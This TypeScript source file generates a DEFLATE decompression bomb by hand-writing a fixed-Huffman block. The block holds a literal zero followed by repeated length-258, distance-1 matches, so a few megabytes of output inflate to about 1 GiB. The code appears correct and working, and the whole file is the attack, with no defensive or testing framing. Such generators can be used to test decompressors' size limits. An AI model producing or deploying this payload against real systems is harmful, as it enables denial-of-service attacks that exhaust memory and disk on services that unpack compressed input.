// A DEFLATE bomb built by hand: one fixed-Huffman block of a literal 0 followed by length-258,
// distance-1 matches (13 bits each), so about 6.6 MB of data inflates to 1 GiB of zeros.
class BitWriter {
  private readonly bytes: Uint8Array;
  private bitPos = 0;
  constructor(capacity: number) {
    this.bytes = new Uint8Array(capacity);
  }
  /** Writes `count` bits of `value`, least significant first (DEFLATE's order for headers and extra bits). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) {
      if ((value >>> i) & 1) this.bytes[this.bitPos >>> 3]! |= 1 << (this.bitPos & 7);
      this.bitPos++;
    }
  }
  /** Huffman codes go most significant bit first. */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.bits((value >>> i) & 1, 1);
  }
  align(): void {
    this.bitPos = (this.bitPos + 7) & ~7;
  }
  done(): Uint8Array {
    return this.bytes.slice(0, (this.bitPos + 7) >>> 3);
  }
}

export function deflateBomb(inflatedBytes: number): Uint8Array {
  const matches = Math.floor((inflatedBytes - 1) / 258);
  const out = new BitWriter(Math.ceil((matches * 13) / 8) + 16);
  out.bits(1, 1); // BFINAL
  out.bits(1, 2); // BTYPE = fixed Huffman
  out.code(0x30, 8); // literal 0
  for (let i = 0; i < matches; i++) {
    out.code(0xc5, 8); // length symbol 285 = 258 bytes
    out.code(0, 5); // distance code 0 = distance 1
  }
  out.code(0, 7); // end of block
  out.align();
  return out.done();
}
